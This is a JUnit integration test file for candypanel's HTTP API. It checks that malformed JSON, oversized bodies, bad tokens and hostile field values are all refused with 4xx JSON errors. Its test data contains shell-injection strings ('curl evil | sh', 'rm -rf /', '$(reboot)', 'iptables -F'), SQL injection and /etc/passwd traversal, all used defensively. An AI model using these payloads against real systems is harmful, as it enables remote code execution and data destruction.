package io.candypanel.adapter.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.ArgumentMatchers.anyString;
import static org.mockito.BDDMockito.given;
import static org.mockito.BDDMockito.then;
import static org.mockito.Mockito.mockingDetails;
import static org.mockito.Mockito.never;

import com.fasterxml.jackson.databind.JsonNode;
import io.candypanel.adapter.http.ApiFixture.Reply;
import io.candypanel.application.port.in.auth.IssuedSession;
import java.io.ByteArrayInputStream;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What an attacker or a broken client sends: every answer is a 4xx in the JSON envelope, never a 5xx. */
class HostileInputIT {
    private static final int MIB = 1024 * 1024;

    private final ApiFixture api = new ApiFixture();

    @AfterEach
    void stop() {
        api.assertNoServerErrors();
        api.close();
    }

    private void noUseCaseCalled() {
        api.assertNoUseCaseCalled();
    }

    /** A valid login request padded with spaces to exactly {@code size} bytes. */
    private static byte[] loginBodyOfSize(int size) {
        byte[] start = "{\"action\": \"login\", \"username\": \"admin\", \"password\": \"admin\"".getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[size];
        Arrays.fill(body, (byte) ' ');
        System.arraycopy(start, 0, body, 0, start.length);
        body[size - 1] = '}';
        return body;
    }

    /**
     * Hundreds of generated requests against every endpoint (see {@link HostileSweep}): wrong types,
     * nulls, huge numbers, unicode and control characters, newlines in names, path traversal in
     * every path segment, absent and duplicate fields, wrong methods and media types, truncated JSON.
     * Each must be refused by the adapter itself: a 4xx in the JSON envelope, and no use case called.
     */
    @Nested
    class GeneratedSweep {
        private static final int AT_LEAST = 500;

        private int useCaseCalls() {
            return api.useCasesButAuthenticate().stream().mapToInt(mock -> mockingDetails(mock).getInvocations().size()).sum();
        }

        @Test
        void everyHostileRequestIsRefusedInTheEnvelopeWithoutReachingAUseCase() {
            // The bot admin routes then get past the admin check to their own field checks.
            api.givenBotAdmin(HostileSweep.BOT_ADMIN);
            List<HostileSweep.Probe> probes = new HostileSweep(api).generate();
            Map<Integer, Integer> histogram = new TreeMap<>();

            for (HostileSweep.Probe probe : probes) {
                Reply reply = api.send(probe.request());
                histogram.merge(reply.status(), 1, Integer::sum);

                assertTrue(reply.status() >= 400 && reply.status() < 500, () -> probe.description() + " -> " + reply.status() + " " + reply.body());
                assertEquals("application/json; charset=utf-8", reply.header("Content-Type"), probe::description);
                JsonNode json = reply.json();
                assertTrue(json.path("success").isBoolean() && !json.path("success").booleanValue(), () -> probe.description() + " " + reply.body());
                assertFalse(json.path("code").asText().isBlank(), () -> probe.description() + " " + reply.body());
                assertFalse(json.path("message").asText().isBlank(), () -> probe.description() + " " + reply.body());
                assertFalse(json.has("data"), () -> probe.description() + " " + reply.body());
                assertEquals(0, useCaseCalls(), () -> probe.description() + " reached a use case: " + reply.body());
            }

            System.out.println("Hostile sweep: sent " + probes.size() + " generated requests; status histogram " + histogram);
            assertTrue(probes.size() >= AT_LEAST, "only " + probes.size() + " requests generated");
            noUseCaseCalled();
        }
    }

    @Nested
    class MalformedBodies {
        @ParameterizedTest
        @ValueSource(strings = {"{\"resource\": \"client\", \"action\": \"create\", \"data\": {\"name\": \"al", "{", "{\"a\" 1}",
                "not json", "{'resource': 'client'}", "{\"resource\": \"client\",}", "{\"a\": NaN}", "{\"a\": 01}",
                "{} {}", "{\"resource\": \"client\"} trailing", "{\"name\": \"a\", \"name\": \"b\"}", "{\"a\": \"line\nbreak\"}",
                "\u0000", "{\"a\": \"\\x41\"}"})
        void malformedOrAmbiguousJsonIs400(String body) {
            String message = api.manage(body).assertError(400, "VALIDATION_FAILED");

            assertTrue(message.startsWith("The request body is not valid JSON"), message);
            noUseCaseCalled();
        }

        @ParameterizedTest
        @ValueSource(strings = {"[]", "[{\"resource\": \"client\"}]", "\"client\"", "42", "true", "null", "", "   "})
        void aBodyThatIsNotAJsonObjectIs400(String body) {
            assertEquals("The request body must be a JSON object.", api.manage(body).assertError(400, "VALIDATION_FAILED"));
            assertEquals("The request body must be a JSON object.", api.post("/api/auth", body).assertError(400, "VALIDATION_FAILED"));
            noUseCaseCalled();
        }

        @Test
        void deeplyNestedJsonIs400NotAStackOverflow() {
            String body = "{\"data\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}";

            api.manage(body).assertError(400, "VALIDATION_FAILED");
        }

        @Test
        void invalidUtf8Is400() {
            byte[] body = {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'};

            api.send(HttpRequest.newBuilder(api.uri("/api/auth")).POST(BodyPublishers.ofByteArray(body)).build())
                    .assertError(400, "VALIDATION_FAILED");
        }

        @Test
        void aHugeNumberIs400() {
            api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"a\", \"expires\": \"2026-12-01\", "
                    + "\"traffic\": " + "9".repeat(5_000) + "}").assertError(400, "VALIDATION_FAILED");
            noUseCaseCalled();
        }
    }

    /** The interface and sync actions: hostile field values never reach a use case and never cost a 5xx. */
    @Nested
    class InterfaceAndSyncActions {
        @ParameterizedTest
        @ValueSource(strings = {
                "create|\"address_range\": \"10.0.0.1/24\\nPostUp = curl evil | sh\", \"port\": 51820",
                "create|\"address_range\": \"10.0.0.1/24; iptables -F\", \"port\": 51820",
                "create|\"address_range\": \"$(reboot)/24\", \"port\": 51820",
                "create|\"address_range\": \"\\u202e10.0.0.1/24\", \"port\": 51820",
                "create|\"address_range\": \"10.0.0.1/24\\u0000\", \"port\": 51820",
                "create|\"address_range\": \"10.0.0.1/\\u0662\\u0664\", \"port\": 51820",
                "create|\"address_range\": \"10.0.0.1/99999999999999999999\", \"port\": 51820",
                "create|\"address_range\": \"10.0.0.1/-8\", \"port\": 51820",
                "create|\"address_range\": \"0x0a.0.0.1/24\", \"port\": 51820",
                "create|\"address_range\": \"fd00::1/64\", \"port\": 51820",
                "create|\"address_range\": {\"range\": \"10.0.0.1/24\"}, \"port\": 51820",
                "create|\"address_range\": [\"10.0.0.1/24\"], \"port\": 51820",
                "create|\"address_range\": \"10.0.0.1/24\", \"port\": \"51820\\n\"",
                "create|\"address_range\": \"10.0.0.1/24\", \"port\": 99999999999999999999999999",
                "create|\"address_range\": \"10.0.0.1/24\", \"port\": 1e3",
                "create|\"address_range\": \"10.0.0.1/24\", \"port\": -0",
                "create|\"address_range\": \"10.0.0.1/24\", \"port\": \"\\u0665\\u0661\\u0668\\u0662\\u0660\"",
                "create|\"address_range\": \"10.0.0.1/24\", \"port\": {}",
                "update|\"name\": \"wg0; rm -rf /\", \"status\": true",
                "update|\"name\": \"wg0\\n\", \"status\": true",
                "update|\"name\": \"wg\\u0660\", \"status\": true",
                "update|\"name\": \"../wg0\", \"port\": 1",
                "update|\"name\": [\"wg0\"], \"status\": true",
                "update|\"name\": \"wg0\", \"status\": null",
                "update|\"name\": \"wg0\", \"status\": {\"up\": true}",
                "update|\"name\": \"wg0\", \"status\": \"false\"",
                "update|\"name\": \"wg0\", \"address\": [\"10.0.0.1/24\"]",
                "update|\"name\": \"wg0\", \"address\": \"10.0.0.1/24\\r\\n[Peer]\"",
                "update|\"name\": \"wg0\", \"port\": -51820",
                "delete|\"wg_id\": \"0x1\"",
                "delete|\"wg_id\": \"\\u0661\"",
                "delete|\"wg_id\": \"1 OR 1=1\"",
                "delete|\"wg_id\": 1e2",
                "delete|\"wg_id\": 99999999999999999999999",
                "delete|\"wg_id\": {\"id\": 1}",
                "delete|\"wg_id\": null"})
        void hostileFieldValuesAre400InTheEnvelope(String actionAndFields) {
            int bar = actionAndFields.indexOf('|');
            String body = "{\"resource\": \"interface\", \"action\": \"" + actionAndFields.substring(0, bar) + "\", \"data\": {"
                    + actionAndFields.substring(bar + 1) + "}}";

            String message = api.manage(body).assertError(400, "VALIDATION_FAILED");

            assertFalse(message.contains("\n") || message.contains("\r") || message.contains("\u0000"), message);
            noUseCaseCalled();
        }

        @Test
        void aHugeInterfaceNameIsNotEchoedBack() {
            String message = api.manage("{\"resource\": \"interface\", \"action\": \"update\", \"name\": \"wg" + "9".repeat(200_000)
                    + "\", \"status\": true}").assertError(400, "VALIDATION_FAILED");

            assertTrue(message.length() < 300, () -> "message of " + message.length() + " characters");
            noUseCaseCalled();
        }

        @Test
        void aHugeRangeIsNotEchoedBack() {
            String message = api.manage("{\"resource\": \"interface\", \"action\": \"create\", \"address_range\": \""
                    + "1".repeat(200_000) + "/24\", \"port\": 51820}").assertError(400, "VALIDATION_FAILED");

            assertTrue(message.length() < 300, () -> "message of " + message.length() + " characters");
            noUseCaseCalled();
        }

        @ParameterizedTest
        @ValueSource(strings = {"\"now\"", "[]", "42", "true"})
        void aSyncTriggerWithDataThatIsNotAnObjectIs400(String data) {
            api.manage("{\"resource\": \"sync\", \"action\": \"trigger\", \"data\": " + data + "}")
                    .assertError(400, "VALIDATION_FAILED");
            noUseCaseCalled();
        }

        @ParameterizedTest
        @ValueSource(strings = {"{\"resource\": \"interface\", \"action\": \"create\", \"address_range\": \"10.3.0.1/24\", \"port\": 1}",
                "{\"resource\": \"interface\", \"action\": \"update\", \"name\": \"wg0\", \"status\": false}",
                "{\"resource\": \"interface\", \"action\": \"delete\", \"wg_id\": 0}",
                "{\"resource\": \"sync\", \"action\": \"trigger\"}"})
        void theNewActionsNeedAValidToken(String body) {
            api.post("/api/manage", body).assertError(401, "UNAUTHENTICATED");
            api.send(HttpRequest.newBuilder(api.uri("/api/manage")).header("Authorization", "Bearer NONE")
                    .POST(BodyPublishers.ofString(body)).build()).assertError(401, "UNAUTHENTICATED");
            noUseCaseCalled();
        }
    }

    @Nested
    class OversizedBodies {
        @Test
        void aBodyOfExactlyOneMebibyteIsAccepted() {
            given(api.login.login(any())).willReturn(new IssuedSession("t", Instant.parse("2026-11-27T00:00:00Z")));

            api.send(HttpRequest.newBuilder(api.uri("/api/auth")).POST(BodyPublishers.ofByteArray(loginBodyOfSize(MIB))).build())
                    .assertSuccess("Login successful!");
        }

        @Test
        void oneByteMoreWithContentLengthIs413() {
            String message = api.send(HttpRequest.newBuilder(api.uri("/api/auth"))
                    .POST(BodyPublishers.ofByteArray(loginBodyOfSize(MIB + 1))).build()).assertError(413, "PAYLOAD_TOO_LARGE");

            assertTrue(message.contains("1 MiB"), message);
            noUseCaseCalled();
        }

        @Test
        void aChunkedBodyWithoutContentLengthIsCountedWhileReading() {
            byte[] body = loginBodyOfSize(3 * MIB / 2);
            HttpRequest request = HttpRequest.newBuilder(api.uri("/api/auth"))
                    .POST(BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body))).build();

            api.send(request).assertError(413, "PAYLOAD_TOO_LARGE");
            noUseCaseCalled();
        }

        @Test
        void aChunkedBodyOnAnAuthenticatedRouteIsCountedToo() {
            byte[] body = loginBodyOfSize(2 * MIB);
            HttpRequest request = HttpRequest.newBuilder(api.uri("/api/manage")).header("Authorization", "Bearer " + ApiFixture.TOKEN)
                    .POST(BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body))).build();

            api.send(request).assertError(413, "PAYLOAD_TOO_LARGE");
            noUseCaseCalled();
        }

        @Test
        void aContentLengthThatClaimsTooMuchIsRefusedWithoutWaitingForTheBody() {
            String head = "POST /api/auth HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                    + "Content-Length: " + (50 * MIB) + "\r\n\r\n{\"action\":";

            Reply reply = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> api.raw(head.getBytes(StandardCharsets.US_ASCII)));

            reply.assertError(413, "PAYLOAD_TOO_LARGE");
        }

        @Test
        void anExpectContinueRequestOverTheLimitIsRefusedBeforeTheBodyAndTheConnectionClosed() {
            String head = "POST /api/auth HTTP/1.1\r\nHost: localhost\r\nExpect: 100-continue\r\n"
                    + "Content-Length: " + (2 * MIB) + "\r\n\r\n";

            Reply reply = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> api.raw(head.getBytes(StandardCharsets.US_ASCII)));

            reply.assertError(413, "PAYLOAD_TOO_LARGE");
            assertEquals("close", reply.header("Connection"));
        }

        @Test
        void aChunkedBodyOverTheLimitSentByHandIs413() {
            StringBuilder request = new StringBuilder("POST /api/auth HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n");
            String chunk = " ".repeat(64 * 1024);
            for (int i = 0; i < 20; i++) {
                request.append(Integer.toHexString(chunk.length())).append("\r\n").append(chunk).append("\r\n");
            }
            request.append("0\r\n\r\n");

            api.raw(request.toString().getBytes(StandardCharsets.US_ASCII)).assertError(413, "PAYLOAD_TOO_LARGE");
        }

        @Test
        void aContentLengthThatClaimsTooLittleOnlyDeliversATruncatedBody() {
            byte[] body = loginBodyOfSize(2 * MIB);
            byte[] head = ("POST /api/auth HTTP/1.1\r\nHost: localhost\r\nContent-Length: 20\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
            byte[] request = new byte[head.length + body.length];
            System.arraycopy(head, 0, request, 0, head.length);
            System.arraycopy(body, 0, request, head.length, body.length);

            api.raw(request).assertError(400, "VALIDATION_FAILED");
            noUseCaseCalled();
        }
    }

    @Nested
    class ExpectContinue {
        @Test
        void theServerAsksForTheBodyBeforeReadingIt() throws Exception {
            given(api.login.login(any())).willReturn(new IssuedSession("t", Instant.parse("2026-11-27T00:00:00Z")));
            byte[] body = "{\"action\": \"login\", \"username\": \"a\", \"password\": \"b\"}".getBytes(StandardCharsets.US_ASCII);
            try (Socket socket = new Socket("127.0.0.1", api.port())) {
                socket.setSoTimeout(5_000);
                socket.getOutputStream().write(("POST /api/auth HTTP/1.1\r\nHost: localhost\r\nExpect: 100-continue\r\n"
                        + "Content-Length: " + body.length + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
                byte[] interim = new byte[12];
                int read = socket.getInputStream().readNBytes(interim, 0, interim.length);

                assertEquals("HTTP/1.1 100", new String(interim, 0, read, StandardCharsets.US_ASCII));
                socket.getOutputStream().write(body);
                String rest = new String(socket.getInputStream().readNBytes(300), StandardCharsets.US_ASCII);
                assertTrue(rest.contains("HTTP/1.1 200"), rest);
            }
        }

        @Test
        void aRequestRefusedBeforeItsBodyClosesTheConnection() {
            Reply reply = api.raw(("POST /api/manage HTTP/1.1\r\nHost: localhost\r\nExpect: 100-continue\r\nContent-Length: 40\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));

            reply.assertError(401, "UNAUTHENTICATED");
            assertEquals("close", reply.header("Connection"));
        }
    }

    @Nested
    class Tokens {
        @ParameterizedTest
        @ValueSource(strings = {"", "Bearer", "Bearer ", "Bearer NONE", "bearer NONE", "Bearer garbage", "Bearer a b",
                "Basic YWRtaW46YWRtaW4=", "Token a-valid-session-token-for-tests", "a-valid-session-token-for-tests",
                "Bearer a-valid-session-token-for-tests-but-longer", "Bearer \u00e9\u00e8"})
        void badTokensAre401OnEveryProtectedRoute(String authorization) {
            HttpRequest.Builder manage = HttpRequest.newBuilder(api.uri("/api/manage"))
                    .POST(BodyPublishers.ofString("{\"resource\": \"client\", \"action\": \"delete\", \"name\": \"alice\"}"));
            HttpRequest.Builder data = HttpRequest.newBuilder(api.uri("/api/data")).GET();
            if (!authorization.isEmpty()) {
                manage.header("Authorization", authorization);
                data.header("Authorization", authorization);
            }

            Reply manageReply = api.send(manage.build());
            Reply dataReply = api.send(data.build());

            manageReply.assertError(401, "UNAUTHENTICATED");
            dataReply.assertError(401, "UNAUTHENTICATED");
            assertEquals("Bearer", manageReply.header("WWW-Authenticate"));
            noUseCaseCalled();
        }

        @Test
        void theOriginalsDefaultTokenNeverReachesTheUseCase() {
            api.send(HttpRequest.newBuilder(api.uri("/api/data")).header("Authorization", "Bearer NONE").GET().build())
                    .assertError(401, "UNAUTHENTICATED");

            then(api.authenticate).should(never()).authenticate("NONE");
        }

        @Test
        void theTokenIsCheckedBeforeTheBodyIsRead() {
            api.send(HttpRequest.newBuilder(api.uri("/api/manage")).POST(BodyPublishers.ofString("{ not json")).build())
                    .assertError(401, "UNAUTHENTICATED");
            then(api.authenticate).should(never()).authenticate(anyString());
        }
    }

    @Nested
    class Routing {
        @ParameterizedTest
        @ValueSource(strings = {"/", "/api", "/api/data/", "/CHECK", "/api/manage/client", "/admin", "/..%2f..%2fetc%2fpasswd",
                "/check%00", "/bot_api/user/unknown", "/bot_api/admin/data", "/bot_api/user/register/x"})
        void unknownPathsAre404Json(String path) {
            api.get(path).assertError(404, "NOT_FOUND");
            api.post(path, "{}").assertError(404, "NOT_FOUND");
        }

        @Test
        void wrongMethodsAre405JsonNamingTheAllowedOne() {
            Reply getManage = api.get("/api/manage");
            Reply postCheck = api.post("/check", "{}");
            Reply deleteData = api.send(HttpRequest.newBuilder(api.uri("/api/data")).DELETE().build());
            Reply putAuth = api.send(HttpRequest.newBuilder(api.uri("/api/auth")).PUT(BodyPublishers.ofString("{}")).build());
            Reply options = api.send(HttpRequest.newBuilder(api.uri("/api/auth")).method("OPTIONS", BodyPublishers.noBody()).build());

            getManage.assertError(405, "METHOD_NOT_ALLOWED");
            postCheck.assertError(405, "METHOD_NOT_ALLOWED");
            deleteData.assertError(405, "METHOD_NOT_ALLOWED");
            putAuth.assertError(405, "METHOD_NOT_ALLOWED");
            options.assertError(405, "METHOD_NOT_ALLOWED");
            assertEquals("POST", getManage.header("Allow"));
            assertEquals("GET", postCheck.header("Allow"));
            assertEquals("GET", deleteData.header("Allow"));
            assertEquals("POST", putAuth.header("Allow"));
            noUseCaseCalled();
        }

        @Test
        void aWrongMethodOnAProtectedPathIs405EvenWithoutAToken() {
            api.get("/api/manage").assertError(405, "METHOD_NOT_ALLOWED");
        }

        @ParameterizedTest
        @ValueSource(strings = {"/%ZZ", "/%", "/check%2", "/%C3%28"})
        void brokenPercentEncodingIsAClientErrorNeverA5xx(String path) {
            Reply reply = api.raw(("GET " + path + " HTTP/1.1\r\nHost: localhost\r\n\r\n").getBytes(StandardCharsets.US_ASCII));

            assertTrue(reply.status() == 400 || reply.status() == 404, () -> reply.status() + " " + reply.body());
            if (!reply.body().isEmpty()) {
                reply.assertError(reply.status(), reply.status() == 404 ? "NOT_FOUND" : "VALIDATION_FAILED");
            }
        }

        @Test
        void aRequestLineUndertowCannotParseIsAClient400() {
            Reply reply = api.raw("GET /check HTTP/1.1\r\nHost: localhost\r\nContent-Length: x\r\n\r\n".getBytes(StandardCharsets.US_ASCII));

            assertEquals(400, reply.status());
            assertFalse(reply.body().contains("<html"), reply.body());
        }
    }
}
